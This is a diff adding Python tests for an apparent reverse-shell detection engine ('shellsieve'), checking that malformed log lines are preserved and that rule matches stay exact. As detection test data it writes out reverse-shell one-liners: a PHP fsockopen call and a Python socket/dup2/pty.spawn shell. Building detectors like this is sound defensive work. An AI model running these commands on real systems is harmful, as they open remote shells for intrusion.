@@ -1,0 +1,111 @@
+"""The block matcher on hostile and unusual input: nothing lost, nothing crashes, hits stay exact."""
+
+from __future__ import annotations
+
+import json
+
+import msgspec
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from conftest import PHP_FSOCKOPEN, PYTHON_PTY, WEB_SERVER_CHILD, rule_ids, run_events
+from shellsieve.compile.ruleset import Ruleset
+from shellsieve.run.match import BlockMatcher
+from shellsieve.run.stats import Stats
+
+PHP = "php -r '$s=fsockopen(\"10.10.10.10\",9001);'"
+WEB_CHILD = {
+    "event": {"category": ["process"], "type": ["start"]},
+    "host": {"os": {"type": "linux"}},
+    "user": {"name": "www-data"},
+    "process": {"name": "whoami", "executable": "/usr/bin/whoami",
+                "parent": {"name": "sh", "executable": "/bin/sh"}},
+}
+
+
+def _process(ruleset: Ruleset, data: bytes) -> tuple[list[bytes], Stats]:
+    stats = Stats()
+    out = BlockMatcher(ruleset, stats).process(data)
+    return out.splitlines(), stats
+
+
+class TestMalformed:
+    def test_each_bad_line_is_wrapped_and_counted(self, shipped: Ruleset) -> None:
+        """Not JSON, bad UTF-8, a JSON array, absurd nesting: each leaves as {"message"} and is counted."""
+        deep = b'{"a":' + b"[" * 5000 + b"]" * 5000 + b"}"
+        lines = [b"plain text", b'{"a": "\xff\xfe"}', b"[1,2]", deep, b"", b'{"ok":1}']
+        out, stats = _process(shipped, b"\n".join(lines) + b"\n")
+        assert len(out) == len(lines)
+        docs = [msgspec.json.decode(x) for x in out]
+        assert docs[0] == {"message": "plain text"}
+        assert docs[1] == {"message": '{"a": "\\xff\\xfe"}'}
+        assert docs[2] == {"message": "[1,2]"}
+        assert docs[4] == {"message": ""}
+        assert out[5] == b'{"ok":1}'
+        assert stats.malformed["invalid_json"] == 2
+        assert stats.malformed["invalid_utf8"] == 1
+        assert stats.malformed["not_object"] == 1
+        assert stats.malformed["too_deep"] == 1
+        assert docs[3] == {"message": deep.decode()}
+
+    def test_bad_candidate_line_is_wrapped(self, shipped: Ruleset) -> None:
+        """A line that hits a prefilter literal but is not JSON is still forwarded and counted."""
+        line = b'php -r "fsockopen(\\"1.2.3.4\\",80)" {broken'
+        out, stats = _process(shipped, line + b"\n")
+        assert msgspec.json.decode(out[0]) == {"message": line.decode()}
+        assert stats.candidates == 1 and stats.malformed["invalid_json"] == 1
+
+    @settings(max_examples=200, deadline=None)
+    @given(st.lists(st.binary(max_size=200).map(lambda b: b.replace(b"\n", b"")), max_size=20))
+    def test_any_bytes_every_line_out_as_json(self, shipped: Ruleset, lines: list[bytes]) -> None:
+        """Whatever the bytes, every line comes back, once, in order, as a JSON object."""
+        out, stats = _process(shipped, b"".join(x + b"\n" for x in lines))
+        assert len(out) == len(lines) == stats.lines_out
+        for raw, got in zip(lines, out):
+            assert isinstance(msgspec.json.decode(got), dict)
+            if got != raw:
+                assert msgspec.json.decode(got)["message"] == raw.decode("utf-8", "backslashreplace")
+
+
+class TestExactness:
+    def test_unicode_escapes_do_not_hide_a_match(self, shipped: Ruleset) -> None:
+        """A command line spelled with \\uXXXX escapes still matches (the escape marker forces a decode)."""
+        line = '{"process":{"command_line":"php -r \'$s=\\u0066sockopen(\\"10.0.0.1\\",9001);\'"}}'
+        assert json.loads(line)["process"]["command_line"].startswith("php -r '$s=fsockopen(")
+        docs = run_events(shipped, [line.encode()])
+        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN]
+
+    def test_escaped_slash_does_not_hide_a_match(self, shipped: Ruleset) -> None:
+        """`\\/` in a path is decoded before the rules look at it."""
+        ev = dict(WEB_CHILD)
+        line = msgspec.json.encode(ev).replace(b"/usr/bin/whoami", b"\\/tmp\\/x").replace(
+            b'"whoami"', b'"x"')
+        docs = run_events(shipped, [line])
+        assert rule_ids(docs[0]) == [WEB_SERVER_CHILD]
+
+    def test_flat_dotted_keys(self, shipped: Ruleset) -> None:
+        """Events with flat dotted keys ("process.command_line") match like nested ones."""
+        docs = run_events(shipped, [{"process.command_line": PHP}])
+        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN]
+
+    def test_unexpected_field_shape_falls_back(self, shipped: Ruleset) -> None:
+        """A rule field of an unexpected type (process.parent as a string) neither crashes nor loses the event."""
+        ev = {"process": {"command_line": PHP, "parent": "bash"}}
+        docs = run_events(shipped, [ev])
+        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN]
+
+    def test_match_never_spans_two_lines(self, shipped: Ruleset) -> None:
+        """Two lines that together would satisfy a rule do not match: each half is its own event."""
+        a = {"process": {"command_line": "python -c 'import socket; s=socket.socket(); s.connect(x)"}}
+        b = {"process": {"command_line": "os.dup2(s.fileno(),0); pty.spawn(\"sh\")'"}}
+        docs = run_events(shipped, [a, b])
+        assert rule_ids(docs[0]) == [] and rule_ids(docs[1]) == []
+
+    def test_several_hits_give_arrays_in_rule_order(self, shipped: Ruleset) -> None:
+        """An event two rules match carries both ids, as arrays in a stable order."""
+        ev = {"process": {"command_line": PHP + " ; python -c 'import socket,os,pty;s=socket.socket();"
+                                                 "s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'"}}
+        docs = run_events(shipped, [ev])
+        assert rule_ids(docs[0]) == [PHP_FSOCKOPEN, PYTHON_PTY]
+        assert docs[0]["event"]["risk_score"] == 99
+        assert docs[0]["threat"]["technique"]["id"] == ["T1059.004", "T1059.006", "T1219", "T1105"]
